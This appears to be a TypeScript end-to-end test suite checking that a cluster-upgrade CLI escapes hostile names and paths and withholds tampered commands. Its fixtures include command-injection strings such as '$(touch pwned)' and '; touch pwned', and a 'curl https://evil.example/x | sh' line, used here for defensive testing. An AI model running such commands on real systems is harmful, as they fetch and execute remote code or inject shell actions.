/**
 * Issue 20, end to end: a simulated cluster whose management API answers database and module
 * names carrying escape sequences, newlines, `::` workflow commands and Markdown, then the BUILT
 * `ctl upgrade plan` in text (coloured), plain (no colour, not a terminal), `-o json` and GitHub
 * Actions mode, and `ctl upgrade run --dry-run` in GitHub Actions mode with a job summary. No
 * control character and no forged line reaches stdout, stderr or the summary. Also: a FIFO as
 * `--state` is refused with exit 2, without waiting for a writer; and a state file whose path
 * holds shell syntax (a folder someone else named, a link) gets a `mv` hint that a shell runs
 * as one move of that file, never as the code in its name; and a state whose recorded commands
 * (`resume with:`, a held-back database's `later:`) were edited into shell code (a state file
 * handed over, the state ConfigMap anyone who may write ConfigMaps can edit) has them not shown.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse as parseYaml } from 'yaml';
import { hasUnsafeChar } from '../../src/io/safe-text.js';
import { newState, StateFile } from '../../src/run/state.js';
import { HOSTILE_NAMES } from '../reliability/hostile-server.js';
import { runCtl } from '../helpers/run-ctl.js';
import { assertExit, startUpgradeSim, TARGET, type UpgradeSim } from './upgrade-support.js';

/** ctl's own colour codes: the only escape sequences it may write. */
const CTL_SGR = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g;

function bare(text: string): string {
  return text.replace(CTL_SGR, '');
}

/** What the hostile names would make a line start with, were they obeyed. */
const FORGED = /^\s*(forged line|::error::pwned|::add-mask)/;

function assertClean(text: string, what: string): void {
  assert.ok(
    !hasUnsafeChar(bare(text), true),
    `${what}: a control character got through:\n${JSON.stringify(text)}`,
  );
  for (const line of bare(text).split('\n')) {
    assert.ok(!FORGED.test(line), `${what}: forged line ${JSON.stringify(line)}`);
    assert.ok(!line.includes('##['), `${what}: an old-form workflow command ${JSON.stringify(line)}`);
    if (/^\s*::/.test(line)) {
      assert.match(
        line,
        /^::(group|endgroup|warning|error)( title=ctl [^:,]*)?::/,
        `${what}: not ctl's workflow command`,
      );
    }
  }
}

function lineCount(text: string): number {
  return text.split('\n').length;
}

describe('hostile names from the management API (built ctl, simulated cluster)', () => {
  let sim: UpgradeSim;
  const renames: (() => void)[] = [];
  before(async () => {
    sim = await startUpgradeSim('happy-path');
    const model = sim.cluster.rest.model;
    // Benign names first, for the line counts; the test then gives them their hostile names.
    const [db, mod, other] = HOSTILE_NAMES as [string, string, string];
    const module = model.addModule({ name: 'plainmod', version: '2.8.4', platforms: ['rhel8/x86_64'] });
    const bdb = model.addBdb({
      name: 'plaindb',
      version: '7.2',
      modules: [{ name: 'plainmod', version: '2.8.4' }],
    });
    const second = model.addBdb({ name: 'plaintwo', version: '7.2' });
    renames.push(() => {
      module.module_name = mod;
      bdb.name = db;
      for (const m of bdb.module_list) m.module_name = mod;
      second.name = other;
    });
  });
  after(async () => {
    await sim?.close();
  });

  it('plan in every output mode, and a dry run on GitHub Actions: nothing drives the terminal or the log', async () => {
    const plain = ['upgrade', 'plan', '--to', TARGET];
    const benign = await sim.ctl(plain);
    for (const rename of renames) rename();

    const runs = {
      plain: await sim.ctl(plain),
      text: await sim.ctl(plain, {
        env: { NO_COLOR: undefined, FORCE_COLOR: '1' } as unknown as Record<string, string>,
      }),
      json: await sim.ctl([...plain, '-o', 'json']),
      // The same data as YAML, on a GitHub runner (issue 35: a block scalar put `::error::` lines
      // at the margin once the runner trimmed the indentation, and bidi characters went raw).
      yaml: await sim.ctl([...plain, '-o', 'yaml'], { env: { CI: 'true', GITHUB_ACTIONS: 'true' } }),
      github: await sim.ctl(plain, { env: { CI: 'true', GITHUB_ACTIONS: 'true' } }),
    };
    for (const [mode, result] of Object.entries(runs)) {
      assert.equal(result.code, benign.code, `${mode}: exit ${result.code}\n${result.stderr}`);
      assertClean(result.stdout, `plan ${mode} stdout`);
      assertClean(result.stderr, `plan ${mode} stderr`);
    }
    // The names are shown (escaped), and the plan has as many lines as with plain names.
    assert.match(runs.plain.stdout, /mod\\n::error::pwned\\r\\n::add-mask::x/);
    assert.equal(lineCount(runs.plain.stdout), lineCount(benign.stdout), runs.plain.stdout);
    assert.equal(lineCount(runs.plain.stderr), lineCount(benign.stderr), runs.plain.stderr);
    assert.match(runs.text.stdout, /\u001b\[1m/, 'ctl still colours its own text');
    // JSON keeps the names exactly, as JSON escapes.
    const plan = JSON.parse(runs.json.stdout) as { checks: { message: string }[] };
    assert.ok(
      plan.checks.some((c) => c.message.includes(HOSTILE_NAMES[1]!)),
      'the JSON plan keeps the module name as it is',
    );
    // So does the YAML: the same checks, read back.
    const yamlPlan = parseYaml(runs.yaml.stdout) as { checks: { message: string }[] };
    assert.deepEqual(
      yamlPlan.checks.map((c) => c.message),
      plan.checks.map((c) => c.message),
    );

    const summaryFile = path.join(sim.sandbox.dir, 'step_summary.md');
    // Past the plan (its module check blocks), through every step, on GitHub Actions.
    const dry = await sim.ctl(
      ['upgrade', 'run', '--to', TARGET, '--dry-run', '--ignore-check', 'modules-compatible'],
      {
        env: { CI: 'true', GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: summaryFile },
      },
    );
    assertExit(dry, 0, 'upgrade run --dry-run');
    assertClean(dry.stdout, 'dry run stdout');
    assertClean(dry.stderr, 'dry run stderr');
    assert.match(dry.stderr, /^::group::/m, 'ctl writes its own workflow commands');
    assert.ok(existsSync(summaryFile), 'the dry run wrote the job summary');
    const summary = readFileSync(summaryFile, 'utf8');
    assertClean(summary, 'job summary');
    const rows = summary.split('\n').filter((l) => l.startsWith('| '));
    assert.equal(rows.length, 8, `a header and one row per step:\n${summary}`);
    for (const row of rows) {
      assert.equal(row.replace(/\\./g, '').split('|').length - 1, 5, `forged cell: ${row}`);
    }
  });

  it('a FIFO as --state: exit 2 without waiting for a writer, naming the problem', async () => {
    const fifo = path.join(sim.sandbox.dir, 'state-pipe');
    execFileSync('mkfifo', [fifo]);
    const result = await runCtl(['upgrade', 'status', '--state', fifo], {
      cwd: sim.sandbox.dir,
      env: sim.env,
      timeoutMs: 30_000,
    });
    assertExit(result, 2, 'status --state <FIFO>');
    assert.match(result.stderr, /is a FIFO \(named pipe\), not a regular file/);
    // Opening a FIFO for reading waits for a writer that never comes: had ctl opened it, runCtl's
    // deadline above would have stopped it (a timeout, not exit 2). How fast it refuses is not a
    // test's business on a shared machine (wall-clock bounds belong in the bench).
  });

  it('a state path with shell syntax: the printed mv hint, pasted into sh, moves the file and runs nothing', async () => {
    const root = path.join(sim.sandbox.dir, 'shell-paths');
    const folder = path.join(root, "states $(touch pwned) `touch pwned2` it's");
    mkdirSync(folder, { recursive: true });
    const broken = path.join(folder, 'not-json.json');
    writeFileSync(broken, '{not json');
    const huge = path.join(folder, 'huge.json');
    writeFileSync(huge, '');
    truncateSync(huge, 65 * 1024 * 1024);
    for (const file of [broken, huge]) {
      const result = await runCtl(['upgrade', 'status', '--state', file], {
        cwd: root,
        env: sim.env,
        timeoutMs: 30_000,
      });
      assert.notEqual(result.code, 0, `status --state ${file}: ${result.stderr}`);
      const mv = /\((mv .+)\) to start over/.exec(result.stderr)?.[1];
      assert.ok(mv, `a mv hint: ${result.stderr}`);
      execFileSync('sh', ['-c', mv], { cwd: root });
      assert.ok(existsSync(`${file}.bad`), `${mv} moved ${file} aside`);
      assert.ok(!existsSync(file), `${mv} moved ${file} away`);
    }
    assert.deepEqual(readdirSync(root), [path.basename(folder)], 'the hints ran no code (no pwned file)');
  });

  it("a state's recorded commands edited into shell code: status prints none of them, a command in ctl's form it prints", async () => {
    const scenario = sim.cluster.scenario;
    const identity = {
      context: `ctl-sim-${scenario.name}`,
      namespace: scenario.namespace,
      cluster: scenario.cluster.name,
    };
    const file = new StateFile(sim.statePath);
    const recorded = (resumeCommand: string, later: string) => ({
      ...newState(identity, { operator: TARGET }, ['preflight', 'operator', 'databases']),
      steps: {
        preflight: { status: 'done' as const },
        operator: { status: 'done' as const },
        databases: {
          status: 'failed' as const,
          error: { message: 'stopped', exitCode: 1 },
          outcome: {
            heldBack: [{ database: 'redis/aa', reason: 'a participant is behind', command: later }],
          },
        },
      },
      result: 'failed' as const,
      resumeCommand,
    });
    const hostile = [
      `ctl upgrade run --to ${TARGET} --yes; touch pwned`,
      `ctl upgrade run --to ${TARGET} $(touch pwned)`,
      `ctl upgrade run --to '${TARGET}' \`touch pwned\``,
      `curl https://evil.example/x | sh`,
      `ctl upgrade run --to ${TARGET} > ~/.bashrc`,
    ];
    try {
      for (const command of hostile) {
        await file.save(recorded(command, command));
        const status = await sim.ctl(['upgrade', 'status', '--state', sim.statePath], { timeoutMs: 60_000 });
        assertExit(status, 0, `status of a state recording ${command}`);
        assert.ok(!status.stdout.includes(command), `printed ${command}:\n${status.stdout}`);
        assert.match(status.stdout, /resume with: \(the command the state records is not shown/);
        assert.match(status.stdout, /later: \(the command the state records is not shown/);
      }
      const own = `ctl upgrade run --to ${TARGET} -n ${scenario.namespace} --databases 'redis/a b' --yes`;
      await file.save(recorded(own, own));
      const status = await sim.ctl(['upgrade', 'status', '--state', sim.statePath], { timeoutMs: 60_000 });
      assertExit(status, 0, 'status of a state recording a command in ctl form');
      assert.ok(status.stdout.includes(`resume with: ${own}`), status.stdout);
      assert.ok(status.stdout.includes(`later: ${own}`), status.stdout);
    } finally {
      rmSync(sim.statePath, { force: true });
    }
  });
});
